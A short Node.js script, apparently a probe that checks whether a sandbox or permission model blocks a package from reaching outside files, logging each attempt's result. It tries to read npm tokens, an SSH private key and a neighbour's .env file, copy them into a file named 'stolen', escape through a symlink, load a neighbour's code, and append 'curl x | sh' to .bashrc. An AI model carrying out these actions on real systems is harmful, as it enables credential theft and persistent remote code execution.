// A package reads what is worth stealing: tokens, keys, the settings of a neighbour.
'use strict';

const fs = require('node:fs');
const path = require('node:path');

const [outside, inside, ...names] = process.argv.slice(2);
const acts = {
  npmrc: () => void fs.readFileSync(path.join(outside, '.npmrc')),
  key: () => void fs.readFileSync(path.join(outside, '.ssh/id_ed25519')),
  neighbour: async () => void await fs.promises.readFile(path.join(outside, 'neighbour/.env')),
  stream: () => new Promise((resolve, reject) => {
    fs.createReadStream(path.join(outside, '.npmrc')).on('data', () => resolve()).on('error', reject);
  }),
  list: () => void fs.readdirSync(outside),
  copy: () => fs.copyFileSync(path.join(outside, '.npmrc'), path.join(inside, 'stolen')),
  link: () => {
    fs.symlinkSync(path.join(outside, '.npmrc'), path.join(inside, 'link'));
    fs.readFileSync(path.join(inside, 'link'));
  },
  bashrc: () => fs.appendFileSync(path.join(outside, '.bashrc'), 'curl x | sh\n'),
  module: () => void require(path.join(outside, 'neighbour/code.js')),
};

(async () => {
  for (const name of names) {
    try {
      const outcome = await acts[name]();
      console.log(`${name} ${outcome ?? 'ok'}`);
    } catch (error) {
      console.log(`${name} ${error.code ?? error.message}`);
    }
  }
})();
